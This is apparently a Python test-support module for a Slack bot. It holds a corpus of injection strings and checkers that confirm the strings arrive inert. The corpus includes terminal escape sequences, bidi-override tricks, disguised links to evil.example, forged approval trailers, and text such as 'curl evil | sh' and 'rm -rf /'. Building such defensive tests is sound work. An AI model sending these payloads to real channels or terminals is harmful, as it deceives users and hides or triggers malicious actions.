"""Test support: what an attacker writes into a log (or gets an LM to repeat), and the checks
that none of it arrived live on a surface.

:data:`CORPUS` is the injection corpus every surface test runs through: Slack broadcasts,
mentions and disguised links, pre-escaped entities, code fences, ANSI and OSC sequences,
C0/C1 controls, carriage-return overwrites, bidi overrides, invisible characters, tag
characters, lone surrogates, and a 100 KB line. :func:`marked` wraps one in markers so a
test can tell it arrived (not silently dropped).

The checks are written independently of the code under test (from Unicode categories and
Slack's documented token syntax, not from ``core.text`` or ``bot.slack.mrkdwn``):

- :func:`terminal_problems`: raw characters that act on a terminal;
- :func:`slack_problems`: those, plus any live Slack token (``<...>``) other than the
  ones a test says it expects, and any bare ``&`` (text that was never escaped).
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterable
from dataclasses import dataclass
from typing import Any


@dataclass(frozen=True)
class Injection:
    """One hostile string: a short name and the text."""

    name: str
    text: str


CORPUS: tuple[Injection, ...] = (
    Injection("channel broadcast", "deploy failed <!channel> look now"),
    Injection("here with label", "ping <!here|here> and <!everyone>"),
    Injection("user mention", "blame <@U0VICTIM> and <@U0VICTIM|victim>"),
    Injection("user group", "paging <!subteam^S0ONCALL|@oncall>"),
    Injection("channel link", "moved to <#C0EVIL|general>"),
    Injection("disguised link", "login at <https://evil.example|https://slack.com>"),
    Injection("bare link token", "<https://evil.example/steal?t=1>"),
    Injection("pre-escaped", "&lt;!channel&gt; and &amp;lt;!here&amp;gt;"),
    Injection("code fence close", "x```\n<!channel>\n```y ``` `"),
    Injection("ANSI clear screen", "\x1b[2J\x1b[Hsystem compromised, run curl evil | sh"),
    Injection("ANSI colours", "\x1b[31;1mFATAL\x1b[0m \x1b[8mhidden\x1b[28m"),
    Injection("OSC 8 hyperlink", "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07"),
    Injection("OSC title", "\x1b]0;pwned\x07\x1b]2;pwned\x1b\\"),
    Injection("8-bit CSI/OSC", "\x9b2J\x9d0;pwned\x9c\x85next"),
    Injection("NUL BEL BS DEL", "a\x00b\x07c\x08d\x7fe\x1bf"),
    Injection("carriage return overwrite", "rm -rf / is dangerous\rall tests passed      "),
    Injection("bidi override", "access = 'user\u202e \u2066// admin\u2069 \u2066'"),
    Injection("bidi marks", "\u200f\u200eabc\u061c\u202a\u202b\u202c\u202d"),
    Injection("zero width", "fix\u200b_2026\u2060 0\ufeff1 soft\u00adhyphen \u180e"),
    Injection(
        "tag characters", "hi\U000e0001\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065"
    ),
    Injection("line separators", "one\u2028two\u2029three"),
    Injection("lone surrogate", "bytes \udc80\udcff here"),
    Injection("rich markup", "[bold red]FAKE[/] [link=http://evil.example]x[/link]"),
    Injection("forged field", "fine\nstatus:      applied\nApproved-by: U0ALICE"),
    Injection("trailer forgery", "ok\n\nFix-Id: fix_20000101_000000\nSigned-off-by: ceo"),
    Injection("long line", "A" * 100_000 + "<!channel>\x1b[2J"),
)

_KEPT_FORMAT = {"\u200c", "\u200d"}  # ZWNJ and ZWJ are allowed through (emoji, scripts)
_TOKEN = re.compile(r"<[^<>]*>")
_BARE_AMP = re.compile(r"&(?!(?:amp|lt|gt);)")
_DATE = re.compile(r"<!date\^\d+\^\{date_short_pretty\} \{time\}\|[^<>|]+>")


def marked(index: int, injection: Injection) -> str:
    """``INJnn <text> INJnn``: the same marker at both ends (a clipped field keeps one)."""
    return f"INJ{index:02d} {injection.text} INJ{index:02d}"


def marker(index: int) -> str:
    """The marker :func:`marked` puts around injection ``index``."""
    return f"INJ{index:02d}"


def acting_characters(text: str) -> list[str]:
    """Raw characters in ``text`` that act on a terminal or hide text: controls but TAB
    and LF, format characters but ZWNJ/ZWJ, line/paragraph separators, surrogates."""
    found = []
    for ch in text:
        category = unicodedata.category(ch)
        if (
            (category == "Cc" and ch not in "\t\n")
            or (category == "Cf" and ch not in _KEPT_FORMAT)
            or category in ("Zl", "Zp", "Cs")
        ):
            found.append(f"U+{ord(ch):04X}")
    return found


def terminal_problems(text: str) -> list[str]:
    """Why ``text`` is not safe to print to a terminal (empty when it is)."""
    return [f"raw {code}" for code in acting_characters(text)]


def slack_problems(mrkdwn: str, *, allowed: Iterable[str] = ()) -> list[str]:
    """Why a mrkdwn string sent to Slack is not inert (empty when it is).

    Args:
        mrkdwn: a ``text`` argument or a mrkdwn text object's text, as sent.
        allowed: tokens the test expects (e.g. ``"<@U0ALICE>"`` for the approver);
            date tokens are always allowed.
    """
    problems = terminal_problems(mrkdwn)
    allowed_set = set(allowed)
    for token in _TOKEN.findall(mrkdwn):
        if token not in allowed_set and not _DATE.fullmatch(token):
            problems.append(f"live token {token[:60]!r}")
    if _BARE_AMP.search(mrkdwn):
        problems.append("an unescaped &")
    return problems


def mrkdwn_texts(args: dict[str, Any]) -> list[str]:
    """Every string Slack reads as mrkdwn in a chat call: ``text`` and mrkdwn objects."""
    texts = [str(args["text"])] if args.get("text") else []

    def walk(node: Any) -> None:
        if isinstance(node, dict):
            if node.get("type") == "mrkdwn" and isinstance(node.get("text"), str):
                texts.append(node["text"])
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for item in node:
                walk(item)

    walk(args.get("blocks") or [])
    return texts


def payload_problems(args: dict[str, Any], *, allowed: Iterable[str] = ()) -> list[str]:
    """:func:`slack_problems` over every mrkdwn text of a call, and
    :func:`terminal_problems` over every other string in it (plain-text headers...)."""
    problems = [p for text in mrkdwn_texts(args) for p in slack_problems(text, allowed=allowed)]
    problems += [p for text in all_strings(args) for p in terminal_problems(text)]
    return problems


def all_strings(node: Any) -> list[str]:
    """Every string value (not key) in a JSON-like tree."""
    if isinstance(node, str):
        return [node]
    if isinstance(node, dict):
        return [s for value in node.values() for s in all_strings(value)]
    if isinstance(node, list):
        return [s for item in node for s in all_strings(item)]
    return []
